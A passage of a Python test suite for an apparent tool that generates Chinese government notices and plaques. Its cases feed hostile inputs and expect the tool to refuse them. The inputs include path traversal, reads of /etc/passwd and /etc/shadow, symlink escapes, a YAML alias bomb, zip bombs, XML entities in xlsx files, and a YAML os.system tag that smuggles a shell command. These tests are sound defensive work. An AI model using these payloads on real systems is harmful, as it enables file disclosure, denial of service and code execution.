add(Case("plaque-batch-title-path-dots", "plaque-batch", "yaml", lambda: dump(at(PLAQUE_BATCH(), "title", "..")),
         rendered(output_names_within())))
add(Case("plaque-batch-title-300-bytes", "plaque-batch", "yaml", lambda: dump(at(PLAQUE_BATCH(), "title", "批" * 100)),
         rendered(output_names_within(), file_named("批批批"))))
add(Case("plaque-batch-station-name-path-dotdot", "plaque-batch", "yaml",
         lambda: dump(at(PLAQUE_BATCH(), "stations.0.name", "../../../etc/园区站")), rendered(output_names_within())))
add(Case("plaque-batch-cli-title-path-dotdot", "plaque-batch", "plaques", None, rendered(output_names_within()),
         {"stations.csv": stations_csv("知识产权保护工作站焦作高新区园区站")},
         ("stations.csv", "--title", f"../../../{ESCAPE}")))
add(Case("reply-batch-title-path-dotdot", "reply-batch", "yaml",
         lambda: dump(at(REPLY_BATCH(), "title", f"../../{ESCAPE}")), rendered(output_names_within())))

# ---- includes: files a record names
APP = "application_file"
for label, target in {"etc-passwd": "/etc/passwd", "dev-zero": "/dev/zero", "root": "/", "dotdot": "../../..",
                      "proc-self-environ": "/proc/self/environ"}.items():
    add(Case(f"reply-application-file-{label}", "reply", "yaml",
             lambda target=target: dump({**{k: v for k, v in REPLY().items() if k != "proposal"},
                                         "subject": "contact-point", APP: target}),
             refused(APP, absent=("root:x:", "PATH="))))
for label, target in {"symlink-etc-passwd": "/etc/passwd", "symlink-dev-zero-xlsx": "/dev/zero"}.items():
    fname = "申请表.xlsx" if target == "/dev/zero" else "申请表.yaml"
    add(Case(f"reply-application-file-{label}", "reply", "yaml",
             lambda fname=fname: dump({**{k: v for k, v in REPLY().items() if k != "proposal"},
                                       "subject": "contact-point", APP: fname}),
             refused(APP, absent=("root:x:",)), {fname: symlink(target)}))
add(Case("reply-application-file-xlsx-zip-bomb", "reply", "yaml",
         lambda: dump({**{k: v for k, v in REPLY().items() if k != "proposal"}, "subject": "contact-point",
                       APP: "申请表.xlsx"}),
         refused(APP, "Excel 文件"), {"申请表.xlsx": lambda p: p.write_bytes(xlsx_zip_bomb())}))
add(Case("reply-application-file-csv-renamed-xlsx", "reply", "yaml",
         lambda: dump({**{k: v for k, v in REPLY().items() if k != "proposal"}, "subject": "contact-point",
                       APP: "申请表.xlsx"}),
         refused(APP, "Excel"), {"申请表.xlsx": csv_renamed_xlsx()}))
add(Case("reply-application-file-xlsx-far-row", "reply", "yaml",
         lambda: dump({**{k: v for k, v in REPLY().items() if k != "proposal"}, "subject": "contact-point",
                       APP: "申请表.xlsx"}),
         refused(APP, "表格行数"), {"申请表.xlsx": lambda p: p.write_bytes(xlsx_far_row())}))
add(Case("reply-application-file-not-a-string", "reply", "yaml",
         lambda: dump({**{k: v for k, v in REPLY().items() if k != "proposal"}, "subject": "contact-point",
                       APP: ["/etc/passwd"]}),
         refused(APP)))
add(Case("reply-batch-application-file-etc-shadow", "reply-batch", "yaml",
         lambda: dump(at(REPLY_BATCH(), "replies.0", {APP: "/etc/shadow", "request": {"title": "关于申请的请示"}})),
         refused(APP)))
for label, target in {"root": "/", "etc-passwd": "/etc/passwd", "dotdot": "../../..", "dev": "/dev"}.items():
    add(Case(f"bulletin-submissions-folder-{label}", "bulletin", "yaml",
             lambda target=target: dump({**{k: v for k, v in BULLETIN().items() if k != "submissions"},
                                         "submissions_folder": target}),
             refused("submissions_folder", absent=("root:x:",))))
add(Case("consolidation-record-submissions-folder-symlink-out", "consolidation", "yaml",
         "kind: consolidation\nsubmissions_folder: 报送\n", refused("submissions_folder"), {"报送": symlink("/etc")}))

# ---- sizes
ALIAS_BOMB = "\n".join(['a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]'] +
                       [f"{chr(97 + i)}: &{chr(97 + i)} [" + ", ".join([f"*{chr(96 + i)}"] * 9) + "]"
                        for i in range(1, 9)]) + "\nkind: notice\n"
add(Case("notice-yaml-alias-bomb", "notice", "yaml", ALIAS_BOMB, refused("YAML 别名")))
add(Case("notice-yaml-5000-deep-list", "notice", "yaml",
         lambda: dump(NOTICE()).replace("body:\n", "body:\n- " + "[" * 5000 + "]" * 5000 + "\n", 1),
         refused("嵌套层数")))
add(Case("notice-5000-deep-list", "notice", "record",
         lambda: at(NOTICE(), "body.0", functools.reduce(lambda inner, _: [inner], range(5000), "正文")),
         refused("body", "嵌套层数")))
add(Case("plaque-yaml-5000-digit-integer", "plaque", "yaml",
         lambda: dump(PLAQUE()).replace("proof_dpi: 30", "proof_dpi: " + "7" * 5000), refused("整数位数")))
add(Case("district-report-5000-digit-integer", "district-report", "record",
         modified("district-report", ("volunteer_teams.0.members", 10 ** 4999)), refused("members", "整数位数")))
add(Case("notice-title-10000-chars", "notice", "record", modified("notice", ("title", "关于" + "测" * 9996 + "的通知")),
         refused("title", "标题长度")))
add(Case("notice-title-120-ce", "notice", "record", modified("notice", ("title", "测" * 120)),
         rendered(shows("测" * 120, ".docx"), pages_at_least(1))))
REALISTIC_TITLE = ("焦作市市场监督管理局焦作市知识产权局关于转发河南省市场监督管理局河南省知识产权局关于进一步加强知识产权保护工作站"
                   "和知识产权保护联系点建设管理及开展二〇二四年知识产权保护工作体系建设专项检查暨重点企业知识产权保护名录动态"
                   "调整工作的通知")
assert len(REALISTIC_TITLE) == 116, len(REALISTIC_TITLE)
add(Case("notice-title-116-realistic", "notice", "record", modified("notice", ("title", REALISTIC_TITLE)),
         rendered(shows(REALISTIC_TITLE), pages_at_least(1))))
add(Case("notice-500-h1-headings", "notice", "record",
         modified("notice", ("body", [x for i in range(500) for x in ({"h1": f"第{i + 1}项工作"},)])),
         rendered(pages_at_least(20), shows("第500项工作", ".docx"))))
add(Case("notice-5001-body-blocks", "notice", "record", modified("notice", ("body", ["段落。"] * 5001)),
         refused("body", "正文段落和标题数")))
add(Case("notice-body-60000-chars", "notice", "record", modified("notice", ("body.0", "测" * 60_000)),
         refused("body", "一个字段的文字长度")))
add(Case("notice-table-201-columns", "notice", "record",
         modified("notice", ("body.2", {"table": {"columns": [f"列{i}" for i in range(201)],
                                                  "rows": [["x"] * 201]}})), refused("表格列数")))
add(Case("notice-yaml-6mb-file", "notice", "yaml", lambda: dump(NOTICE()) + "#" + "x" * (6 * 1024 * 1024) + "\n",
         refused("记录文件大小")))
add(Case("consolidation-csv-2-million-char-cell", "consolidation", "consolidate", None, refused("单元格文字长度"),
         {"报送/焦作市解放区市场监督管理局.csv": lambda p: p.write_bytes(huge_cell_institutions_csv())}))
add(Case("plaque-batch-cli-csv-2-million-char-cell", "plaque-batch", "plaques", None, refused("单元格文字长度"),
         {"stations.csv": lambda p: p.write_bytes(huge_cell_csv())}, ("stations.csv",)))
add(Case("consolidation-xlsx-row-1048576", "consolidation", "consolidate", None, refused("表格行数"),
         {"报送/山阳区.xlsx": lambda p: p.write_bytes(xlsx_far_row())}))
add(Case("plaque-batch-cli-xlsx-row-1048576", "plaque-batch", "plaques", None, refused("表格行数"),
         {"stations.xlsx": lambda p: p.write_bytes(xlsx_far_row())}, ("stations.xlsx",)))
add(Case("consolidation-xlsx-zip-bomb", "consolidation", "consolidate", None, refused("Excel 文件", "山阳区.xlsx"),
         {"报送/山阳区.xlsx": lambda p: p.write_bytes(xlsx_zip_bomb())}))
add(Case("plaque-batch-cli-xlsx-zip-bomb", "plaque-batch", "plaques", None, refused("Excel 文件"),
         {"stations.xlsx": lambda p: p.write_bytes(xlsx_zip_bomb())}, ("stations.xlsx",)))
add(Case("consolidation-csv-renamed-xlsx", "consolidation", "consolidate", None, refused("Excel", "山阳区.xlsx"),
         {"报送/山阳区.xlsx": csv_renamed_xlsx()}))
add(Case("plaque-batch-cli-csv-renamed-xlsx", "plaque-batch", "plaques", None, refused("Excel", "stations.xlsx"),
         {"stations.xlsx": csv_renamed_xlsx()}, ("stations.xlsx",)))
add(Case("consolidation-xlsx-entity", "consolidation", "consolidate", None, refused("ENTITY", absent=("root:x:",)),
         {"报送/山阳区.xlsx": lambda p: p.write_bytes(xlsx_with_entity())}))
add(Case("plaque-batch-cli-xlsx-entity", "plaque-batch", "plaques", None, refused("ENTITY", absent=("root:x:",)),
         {"stations.xlsx": lambda p: p.write_bytes(xlsx_with_entity())}, ("stations.xlsx",)))
add(Case("plaque-3000x3000-at-600-dpi", "plaque", "yaml",
         lambda: dump({**PLAQUE(), "size": "3000x3000", "proof_dpi": 600}), refused("proof_dpi", "校样图像像素数")))
add(Case("plaque-batch-100000-stations", "plaque-batch", "record",
         modified("plaque-batch", ("stations", [{"name": f"知识产权保护工作站第{i}园区站"} for i in range(100_000)])),
         refused("stations", "一批的条目数")))
add(Case("plaque-batch-cli-100000-stations", "plaque-batch", "plaques", None,
         refused(("一批的条目数", "表格行数")), {"stations.csv": lambda p: p.write_bytes(many_stations_csv())},
         ("stations.csv",)))
add(Case("reply-batch-5001-replies", "reply-batch", "record",
         lambda: at(REPLY_BATCH(), "replies", [REPLY_BATCH()["replies"][1]] * 5001), refused("replies", "一批的条目数")))

# ---- type confusion
add(Case("notice-title-list", "notice", "record", modified("notice", ("title", ["焦作市", "通知"])), refused("title")))
add(Case("notice-signature-date-number", "notice", "record", modified("notice", ("signature.date", 20240420)),
         refused("signature.date")))
add(Case("notice-signature-date-impossible", "notice", "record", modified("notice", ("signature.date", "2024年2月30日")),
         refused("signature.date", "不存在")))
add(Case("notice-yaml-signature-date-unquoted-iso", "notice", "yaml",
         lambda: dump(NOTICE()).replace("date: 2024年4月20日", "date: 2024-04-20"), rendered(shows("2024年4月20日"))))
add(Case("notice-yaml-title-boolean", "notice", "yaml", lambda: dump(NOTICE()).replace(
    "title: " + NOTICE()["title"], "title: yes"), refused("title")))
add(Case("notice-body-string-not-list", "notice", "record", modified("notice", ("body", "一段正文")), refused("body")))
add(Case("notice-body-item-number", "notice", "record", modified("notice", ("body.0", 42)), refused("body")))
add(Case("notice-kind-list", "notice", "record", modified("notice", ("kind", ["notice"])), refused("kind")))
add(Case("notice-yaml-top-level-list", "notice", "yaml", "- kind: notice\n- title: x\n", refused("记录")))
add(Case("notice-yaml-empty-file", "notice", "yaml", "", refused(("记录", "kind"))))
add(Case("notice-null-everywhere", "notice", "record",
         lambda: {k: (None if k != "kind" else "notice") for k in NOTICE()},
         refused("issuer", "doc_number", "title", "addressees", "body", "signature")))
add(Case("notice-yaml-duplicated-key", "notice", "yaml", lambda: dump(NOTICE()) + "title: 第二个标题\n",
         refused("title", "键重复")))
add(Case("plaque-station-null", "plaque", "record", modified("plaque", ("station", None)), refused("station")))
add(Case("plaque-size-inf", "plaque", "record", modified("plaque", ("size", [float("inf"), 400])), refused("size")))
add(Case("plaque-size-nan", "plaque", "record", modified("plaque", ("size", [float("nan"), 400])), refused("size")))
add(Case("plaque-size-negative", "plaque", "record", modified("plaque", ("size", [-1, 400])), refused("size")))
add(Case("plaque-size-1e400", "plaque", "record", modified("plaque", ("size", "1e400x400")), refused("size")))
add(Case("plaque-size-boolean", "plaque", "record", modified("plaque", ("size", True)), refused("size")))
add(Case("plaque-yaml-size-inf", "plaque", "yaml", lambda: dump(PLAQUE()) + "size: [.inf, 400]\n", refused("size")))
add(Case("plaque-proof-dpi-boolean", "plaque", "record", modified("plaque", ("proof_dpi", True)), refused("proof_dpi")))
add(Case("plaque-proof-dpi-negative", "plaque", "record", modified("plaque", ("proof_dpi", -1)), refused("proof_dpi")))
for label, area in {"inf": float("inf"), "nan": float("nan"), "negative": -1, "1e400": "1e400"}.items():
    add(Case(f"contact-point-application-office-area-{label}", "contact-point-application", "record",
             modified("contact-point-application", ("office_area", area)), refused("office_area")))
add(Case("contact-point-application-yaml-office-area-nan", "contact-point-application", "yaml",
         lambda: dump(APPLICATION()).replace("office_area: 45.5", "office_area: .nan"), refused("office_area")))
add(Case("contact-point-application-signage-string", "contact-point-application", "record",
         modified("contact-point-application", ("signage", "也许")), refused("signage")))
add(Case("contact-point-application-industries-dict", "contact-point-application", "record",
         modified("contact-point-application", ("industries", {"a": 1})), refused("industries")))
add(Case("district-report-members-negative", "district-report", "record",
         modified("district-report", ("volunteer_teams.0.members", -1)), refused("members")))
add(Case("district-report-members-inf", "district-report", "record",
         modified("district-report", ("volunteer_teams.0.members", float("inf"))), refused("members")))
add(Case("district-report-stations-null", "district-report", "record", modified("district-report", ("stations", None)),
         refused("stations")))
add(Case("plaque-batch-stations-string", "plaque-batch", "record", modified("plaque-batch", ("stations", "abc")),
         refused("stations")))
add(Case("plaque-batch-serial-list", "plaque-batch", "record", modified("plaque-batch", ("stations.0.serial", [1])),
         refused("serial")))
add(Case("reply-decision-unknown", "reply", "record", modified("reply", ("decision", "maybe")), refused("decision")))
add(Case("reply-date-null", "reply", "record", modified("reply", ("date", None)), refused("date")))
add(Case("bulletin-inspections-number", "bulletin", "record", modified("bulletin", ("inspections", 3)),
         refused("inspections")))
add(Case("reply-batch-first-number-number", "reply-batch", "record", modified("reply-batch", ("first_number", 150)),
         refused("first_number")))

# ---- unicode
ZW = "\u200b\u200c\u200d\u2060"
add(Case("plaque-station-zero-width", "plaque", "record", modified("plaque", ("station", f"知识产权保护工作站{ZW}站")),
         refused("station")))
add(Case("plaque-batch-name-zero-width", "plaque-batch", "record",
         modified("plaque-batch", ("stations.0.name", f"知识产权保护工作站焦作高新区{ZW}园区站")), refused("name")))
add(Case("district-report-station-zero-width", "district-report", "record",
         modified("district-report", ("stations.0.station", "知识产权保护工作站山阳区太行路\u200b商会站")),
         refused("station")))
add(Case("notice-title-rtl-override", "notice", "record",
         modified("notice", ("title", "焦作市市场监督管理局关于\u202e知通的动活\u202c的通知")), refused("title", "U+202E")))
add(Case("plaque-station-rtl-override", "plaque", "record", modified("plaque", ("station", "\u202e站区园区新高作焦")),
         refused("station", "U+202E")))
add(Case("notice-body-emoji", "notice", "record", modified("notice", ("body.0", "现将有关事项通知如下🎉👍。")),
         rendered(shows("现将有关事项通知如下🎉👍。", ".docx"), pages_at_least(1))))
add(Case("plaque-station-emoji", "plaque", "record", modified("plaque", ("station", "焦作高新区🎉园区站")),
         refused("station")))
add(Case("notice-body-private-use-plane-16", "notice", "record",
         modified("notice", ("body.0", "现将有关事项\U0010fffd通知如下。")), rendered(pages_at_least(1), says("没有任何已安装字体能绘制", "\U0010fffd"))))
add(Case("plaque-station-private-use-plane-16", "plaque", "record",
         modified("plaque", ("station", "焦作高新区\U0010fffd园区站")), refused("station")))
add(Case("notice-title-combining-marks", "notice", "record",
         modified("notice", ("title", "焦作市市场监督管理局关于" + "通\u0301\u0302\u0303\u0304" * 10 + "的通知")),
         rendered(pages_at_least(1))))
add(Case("plaque-station-combining-marks", "plaque", "record",
         modified("plaque", ("station", "焦作高新\u0301\u0302区园区站")), rendered(pages_at_least(1))))
add(Case("notice-title-long-latin-word", "notice", "record",
         modified("notice", ("title", "关于" + "Supercalifragilistic" * 9 + "的通知")),
         rendered(shows("Supercalifragilistic" * 9, ".docx"), pages_at_least(1))))
add(Case("notice-body-long-latin-word", "notice", "record", modified("notice", ("body.0", "x" * 3000 + "。")),
         rendered(shows("x" * 3000, ".docx"), pages_at_least(2))))
add(Case("plaque-station-long-latin-word", "plaque", "record",
         modified("plaque", ("station", "ABCDEFGHIJKLMNOPQRSTUVWXYZAB站")), rendered(pages_at_least(1))))
add(Case("notice-title-lone-surrogate", "notice", "record", modified("notice", ("title", "关于\ud800的通知")),
         refused("title", "U+D800")))
add(Case("plaque-station-line-separator", "plaque", "record",
         modified("plaque", ("station", "焦作高新区\u2028园区站")), refused("station")))

# ---- the documented figure block
FIGURE = {"figure": {"caption": "图1 工作站设立流程", "lines": ["设立单位申请", "辖区局审核", "确定为联系点"]}}
add(Case("notice-body-figure", "notice", "record", modified("notice", ("body.2", FIGURE)),
         rendered(shows("图1工作站设立流程"), pages_at_least(1))))
add(Case("notice-attachment-figure", "notice", "record",
         modified("notice", ("attachments", [{"title": "工作站设立流程图", "blocks": [FIGURE]}])),
         rendered(shows("辖区局审核"), pages_at_least(2))))
add(Case("notice-yaml-figure-template-text", "notice", "yaml",
         lambda: dump(at(NOTICE(), "body.2", {"figure": {"caption": "图{{ 7*7 }}", "lines": ["{% if 1 %}甲{% endif %}"]}})),
         rendered(shows("图{{ 7*7 }}"), shows("{% if 1 %}甲{% endif %}"))))

# ---- empty where content is required
add(Case("notice-body-empty-list", "notice", "record", modified("notice", ("body", [])), refused("body")))
add(Case("notice-title-empty", "notice", "record", modified("notice", ("title", "")), refused("title")))
add(Case("notice-title-whitespace", "notice", "record", modified("notice", ("title", "   \t ")), refused("title")))
add(Case("notice-body-paragraph-empty", "notice", "record", modified("notice", ("body.0", "")), refused("body")))
add(Case("notice-table-columns-empty", "notice", "record",
         modified("notice", ("body.2", {"table": {"columns": [], "rows": []}})), refused("columns")))
add(Case("notice-figure-lines-empty", "notice", "record",
         modified("notice", ("body.2", {"figure": {"caption": "图1", "lines": []}})), refused("lines")))
add(Case("notice-attachment-title-empty", "notice", "record", modified("notice", ("attachments", [{"title": ""}])),
         refused("attachments")))
add(Case("plaque-station-empty", "plaque", "record", modified("plaque", ("station", "")), refused("station")))
add(Case("plaque-batch-stations-empty", "plaque-batch", "record", modified("plaque-batch", ("stations", [])),
         refused("stations")))
add(Case("reply-batch-replies-empty", "reply-batch", "record", modified("reply-batch", ("replies", [])),
         refused("replies")))
add(Case("bulletin-submissions-empty", "bulletin", "record", modified("bulletin", ("submissions", [])),
         refused("submissions")))
add(Case("contact-point-application-industries-empty", "contact-point-application", "record",
         modified("contact-point-application", ("industries", [])), refused("industries")))
add(Case("district-report-district-empty", "district-report", "record", modified("district-report", ("district", "")),
         refused("district")))
add(Case("reply-request-title-empty", "reply", "record", modified("reply", ("request.title", "")),
         refused("request.title")))
add(Case("consolidation-folder-empty", "consolidation", "consolidate", None, refused("报送"), {"报送/说明.txt": "无"}))
add(Case("consolidation-only-csv-empty", "consolidation", "consolidate", None, refused("空"), {"报送/山阳区.csv": b""}))
add(Case("plaque-batch-cli-csv-empty", "plaque-batch", "plaques", None, refused("stations.csv"),
         {"stations.csv": b""}, ("stations.csv",)))

# ---- more that arrive through the CLI and YAML itself
add(Case("notice-yaml-python-object-tag", "notice", "yaml",
         lambda: dump(NOTICE()) + f'note: !!python/object/apply:os.system ["touch /tmp/{ESCAPE}-tag"]\n',
         refused("record.yaml")))
add(Case("notice-yaml-invalid-utf8", "notice", "yaml", None, refused("UTF-8"),
         {"record.yaml": dump(NOTICE()).encode("utf-8").replace("通知如下".encode(), b"\xff\xfe\xc3(")}))
add(Case("notice-yaml-utf16", "notice", "yaml", None, refused("record.yaml"),
         {"record.yaml": dump(NOTICE()).encode("utf-16")}))
add(Case("notice-doc-number-5000-digit-sequence", "notice", "record",
         modified("notice", ("doc_number", "焦市监〔2021〕" + "9" * 5000 + "号")),
         refused("doc_number", absent=("set_int_max_str_digits", "Exceeds the limit"))))
add(Case("notice-title-lines-mismatch", "notice", "record", modified("notice", ("title_lines", ["焦作市", "通知"])),
         refused("title_lines")))
add(Case("plaque-batch-3000x3000-on-a3-sheet", "plaque-batch", "record",
         modified("plaque-batch", ("size", "3000x3000"), ("sheet", "A3")), refused("sheet", "A3")))
add(Case("plaque-batch-yaml-3000x3000-on-a3-sheet", "plaque-batch", "yaml",
         lambda: dump({**PLAQUE_BATCH(), "size": "3000x3000", "sheet": "A3"}), refused("sheet", "A3")))
add(Case("plaque-size-3000x100-extreme-aspect", "plaque", "record", modified("plaque", ("size", "3000x100")),
         rendered(pages_at_least(1))))
for label, option in {"size-1e400": ("--size", "1e400x400"), "dpi-100000": ("--dpi", "100000"),
                      "sheet-1x1": ("--sheet", "1x1")}.items():
    add(Case(f"plaque-batch-cli-{label}", "plaque-batch", "plaques", None, refused(option[0].lstrip("-").replace("dpi", "proof_dpi")),
             {"stations.csv": stations_csv("知识产权保护工作站焦作高新区园区站")}, ("stations.csv", *option)))
add(Case("consolidation-201-files", "consolidation", "consolidate", None, refused("报送文件数"),
         {f"报送/区局{i:03d}.csv": institutions_csv("无") for i in range(201)}))
add(Case("consolidation-symlink-to-etc-passwd", "consolidation", "consolidate", None,
         refused("山阳区.yaml", absent=("root:x:",)),
         {"报送/shanyang.yaml": good_report_yaml(), "报送/山阳区.yaml": symlink("/etc/passwd")}))
add(Case("consolidation-fifo-submission", "consolidation", "consolidate", None, refused("山阳区.csv"),
         {"报送/shanyang.yaml": good_report_yaml(), "报送/山阳区.csv": lambda p: os.mkfifo(p)}))
add(Case("bulletin-submissions-folder-fifo-inside", "bulletin", "yaml",
         lambda: dump({**{k: v for k, v in BULLETIN().items() if k != "submissions"}, "submissions_folder": "报送"}),
         refused("submissions_folder", "山阳区.csv"),
         {"报送/shanyang.yaml": good_report_yaml(), "报送/山阳区.csv": lambda p: os.mkfifo(p)}))
add(Case("reply-name-windows-device", "reply", "record", modified("reply", ("name", "NUL.pdf")), refused("name")))
add(Case("bulletin-name-windows-device", "bulletin", "record", modified("bulletin", ("name", "con")), refused("name")))
add(Case("reply-batch-name-slash", "reply-batch", "record", modified("reply-batch", ("replies.0.name", "a/b")),
         refused("name")))

add(Case("notice-table-50000-rows", "notice", "record",
         modified("notice", ("body.2", {"table": {"columns": ["序号", "名称", "说明"],
                                                  "rows": [[i, "名称", "说明"] for i in range(50_000)]}})),
         answered("表格行数")))

_ids = [c.id for c in CASES]
assert len(_ids) == len(set(_ids)), sorted({i for i in _ids if _ids.count(i) > 1})
